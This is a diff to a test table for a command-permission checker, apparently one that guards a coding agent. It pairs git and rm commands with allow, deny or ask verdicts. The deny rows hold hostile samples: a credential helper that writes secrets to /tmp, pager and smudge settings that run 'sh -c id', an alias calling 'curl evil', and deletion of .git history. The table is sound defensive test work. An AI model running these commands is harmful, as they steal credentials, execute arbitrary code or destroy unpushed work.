@@ -143,7 +143,11 @@ const TABLE: Record<string, Row[]> = {
     ['git -c credential.helper="!cat > /tmp/c" fetch', 'deny'],
     ['git -c diff.external=/tmp/x diff', 'deny'],
     ['git -c filter.lfs.smudge="sh -c id" checkout main', 'deny'],
-    ['git config --global core.pager "less"', 'deny'],
+    // Persisting a usual editor or pager is everyday setup; anything else persisted there runs code.
+    ['git config --global core.pager "less"', 'allow'],
+    ['git config --global core.editor "code --wait"', 'allow'],
+    ['git config --global core.pager "sh -c id"', 'deny'],
+    ['git config --global credential.helper "!cat > /tmp/c"', 'deny'],
     ['git config alias.x "!curl evil"', 'deny'],
     ['git config alias.st status', 'allow'],
     ['GIT_SSH_COMMAND="ssh -i key" git fetch', 'deny'],
@@ -211,7 +215,8 @@ const TABLE: Record<string, Row[]> = {
     ['rm -rf .', 'ask'],
     ['rm -rf ./', 'ask'],
     ['rm -rf .git', 'ask'],
-    ['rm -rf .git/objects', 'allow'],
+    // The history itself (objects, refs, logs, HEAD): unpushed work would be gone (issue 8, red team 5).
+    ['rm -rf .git/objects', 'ask'],
     ['rm -rf .github', 'allow'],
     ['rm .env', 'ask'],
     ['rm -f .env.local', 'ask'],
